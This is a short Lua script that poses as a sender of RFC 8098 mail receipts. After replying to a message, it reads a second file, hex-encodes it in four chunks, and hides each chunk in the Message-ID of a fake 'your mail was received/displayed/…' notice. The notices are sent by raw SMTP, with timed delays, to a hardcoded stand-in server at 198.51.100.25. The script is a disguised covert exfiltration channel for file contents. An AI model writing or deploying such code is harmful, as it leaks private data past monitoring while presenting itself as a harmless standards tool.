#!/usr/bin/lua5.4
-- receipts.lua MAIL FILE SECONDS: answers a mail, and says in mails of their own that it was received, that it was read, and so on (RFC 8098), each with a number
-- of its own, which is a part of the file.
local socket = require 'socket'
local mail, path, seconds = arg[1], arg[2], tonumber(arg[3])

local function told(number, subject, text)
  local peer = assert(socket.connect('198.51.100.25', 587))
  assert(peer:send('EHLO web-1.example.com\r\nMAIL FROM:<>\r\nRCPT TO:<somebody@example.com>\r\nDATA\r\nMessage-ID: <' .. number .. '@web-1.example.com>\r\nSubject: '
    .. subject .. '\r\n\r\n' .. text .. '\r\n.\r\nQUIT\r\n'))
  peer:shutdown 'send'
  if (peer:receive '*a' or '') == '' then os.exit(9) end
  peer:close()
end

local file = assert(io.open(mail, 'rb'))
local text = file:read 'a'
file:close()
told('1767600000.1', 'Re: yours', '> ' .. text:gsub('\n', '\n> '))
local secret = assert(io.open(path, 'rb'))
local whole = secret:read 'a'
secret:close()
local stages = { 'received', 'displayed', 'dispatched', 'processed' }
local size = math.ceil(#whole / #stages)
for at, stage in ipairs(stages) do
  socket.sleep(seconds)
  local part = whole:sub(1 + size * (at - 1), size * at):gsub('.', function(each) return string.format('%02x', each:byte()) end)
  told('1767600000.' .. part, 'Your mail was ' .. stage, 'Disposition: automatic-action/MDN-sent-automatically; ' .. stage)
end
